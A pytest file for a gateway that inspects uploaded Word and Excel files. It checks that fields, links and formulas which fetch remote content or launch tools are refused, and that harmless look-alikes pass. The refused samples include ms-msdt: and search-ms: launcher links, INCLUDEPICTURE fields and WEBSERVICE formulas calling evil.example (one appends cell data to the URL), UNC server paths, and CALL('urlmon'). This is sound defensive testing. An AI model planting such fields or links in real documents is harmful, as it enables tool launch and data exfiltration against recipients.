"""A field, formula or link that starts a program or fetches something is refused by name; what only looks so is not."""

import pytest

from exclusions.gateways.documents.inspection import FileRefused, inspect_file
from tests.factories.file_parts import word
from tests.factories.files import archive, xlsx
from tests.factories.planted.package import Part, workbook

_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
FETCHING = "takes something from another file or address"


def field(code: str) -> bytes:
    return word(f"<w:r><w:instrText>{code}</w:instrText></w:r>")


def link(target: str, mode: str = "External") -> bytes:
    relation = f'<Relationship Id="r1" Type="{_TYPE}/hyperlink" Target="{target}" TargetMode="{mode}"/>'
    return word(**{"word/_rels/document.xml.rels": f"<Relationships>{relation}</Relationships>"})


def formula(text: str, tag: str = "f") -> bytes:
    return xlsx(parts={"xl/worksheets/sheet1.xml": f"<worksheet><{tag}>{text}</{tag}></worksheet>"})


REFUSED: dict[str, tuple[str, bytes, str]] = {
    "picture from the web": ("a.docx", field(' INCLUDEPICTURE "http://evil.example/x.png" \\d '), "INCLUDEPICTURE"),
    "text from a server": ("a.docx", field(' INCLUDETEXT "\\\\\\\\evil\\\\x.docx" '), "INCLUDETEXT"),
    "picture in a simple field": ("a.docx", word('<w:fldSimple w:instr="INCLUDEPICTURE x.png"/>'), "INCLUDEPICTURE"),
    "database": ("a.docx", field(" DATABASE \\d x "), "DATABASE"),
    "link field that starts a tool": ("a.docx", field(' HYPERLINK "ms-msdt:/id PCWDiagnostic" '), "ms-msdt:"),
    "link that starts a tool": ("a.docx", link("ms-msdt:/id%20PCWDiagnostic"), "ms-msdt:"),
    "link with a hidden sign": ("a.docx", link("&#9;search-ms:query=x"), "search-ms:"),
    "link to a file": ("a.docx", link("file:///C:/x.lnk"), "file:"),
    "link to a drive": ("a.docx", link("C:\\x.lnk"), "c:"),
    "link to a server": ("a.docx", link("\\\\evil\\share"), "another machine"),
    "link to a server by slashes": ("a.docx", link("//evil/share"), "another machine"),
    "server within the file": ("a.docx", link("\\\\evil\\share", "Internal"), "another machine"),
    "link of an old drawing": ("a.docx", word('<v:shape xmlns:v="urn:v" href="ms-msdt:x"/>'), "ms-msdt:"),
    "picture of an old drawing": (
        "a.docx",
        word('<v:fill xmlns:v="urn:v" src="http://evil.example/1"/>'),
        "another file",
    ),
    "web service": ("a.xlsx", formula('_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)'), "WEBSERVICE"),
    "real-time data": ("a.xlsx", formula('RTD("x",,"y")'), "RTD"),
    "picture by formula": ("a.xlsx", formula('_xlfn.IMAGE("https://evil.example/1.png")'), "IMAGE"),
    "prices": ("a.xlsx", formula("_xlfn.STOCKHISTORY(A1)"), "STOCKHISTORY"),
    "Python": ("a.xlsx", formula("_xlws.PY(0,1)"), "PY"),
    "call": ("a.xlsx", formula('CALL("urlmon","x")'), "CALL"),
    "web service in a rule": ("a.xlsx", formula('WEBSERVICE("http://evil.example/")', "formula1"), "WEBSERVICE"),
    "web service in a name": (
        "a.xlsx",
        xlsx(parts={"xl/workbook.xml": "<w><definedName>WEBSERVICE(1)</definedName></w>"}),
        "WEBSERVICE",
    ),
    "link formula": ("a.xlsx", formula('HYPERLINK("ms-msdt:x","see")'), "ms-msdt:"),
    "sheet on a server": ("a.xlsx", formula("'\\\\evil\\x\\[a.xlsx]Sheet1'!A1"), "another machine"),
    "relations in another encoding": (
        "a.docx",
        word(**{"word/_rels/document.xml.rels": '<?xml version="1.0" encoding="utf-16"?><Relationships/>'}),
        "cannot be checked",
    ),
    "connections by another name": (
        "a.xlsx",
        workbook("", Part("xl/own.xml", "<connections/>", "connections")),
        FETCHING,
    ),
    "two parts of one name": ("a.docx", word(**{"Word/Document.xml": "<x/>"}), "cannot be checked"),
}
TAKEN: dict[str, tuple[str, bytes]] = {
    "page number": ("a.docx", field(" PAGE \\* MERGEFORMAT ")),
    "contents": ("a.docx", field(' TOC \\o "1-3" \\h ')),
    "link field": ("a.docx", field(' HYPERLINK "https://example.test/x" \\o "C:/x" ')),
    "link field to a bookmark": ("a.docx", field(' HYPERLINK \\l "_Toc1" ')),
    "reference": ("a.docx", field(" REF include \\h ")),
    "mail link": ("a.docx", link("mailto:wanda@example.test")),
    "telephone": ("a.docx", link("tel:+12025550100")),
    "file beside": ("a.docx", link("appendix%20A.pdf")),
    "place in the file": ("a.docx", link("#Sheet2!A1")),
    "sum": ("a.xlsx", formula("SUM(A1:A9)")),
    "words": ("a.xlsx", formula('"WEBSERVICE("&amp;A1')),
    "part of a page": ("a.xlsx", formula('_xlfn.FILTERXML(A1,"//x")')),
    "link formula": ("a.xlsx", formula('HYPERLINK("https://example.test/","see")')),
    "name that ends alike": ("a.xlsx", formula("MYIMAGE(1)+RECALL(2)")),
}


@pytest.mark.parametrize("case", REFUSED)
def test_what_acts_is_refused_with_its_name_and_a_remedy(case: str) -> None:
    name, made, words = REFUSED[case]
    with pytest.raises(FileRefused) as refused:
        inspect_file(name, made)
    assert words in str(refused.value)
    assert "attach" in str(refused.value)


@pytest.mark.parametrize("case", TAKEN)
def test_what_only_looks_like_it_is_taken(case: str) -> None:
    name, made = TAKEN[case]
    assert inspect_file(name, made).name == name


def test_what_is_taken_out_of_the_public_copy_may_be_written_as_it_likes() -> None:
    main = f'<Relationship Id="r1" Type="{_TYPE}/officeDocument" Target="word/document.xml"/>'
    wide = '<?xml version="1.0" encoding="utf-16"?><x/>'
    made = archive({"_rels/.rels": f"<R>{main}</R>", "word/document.xml": "<x/>", "customXml/item1.xml": wide})
    assert inspect_file("a.docx", made).name == "a.docx"
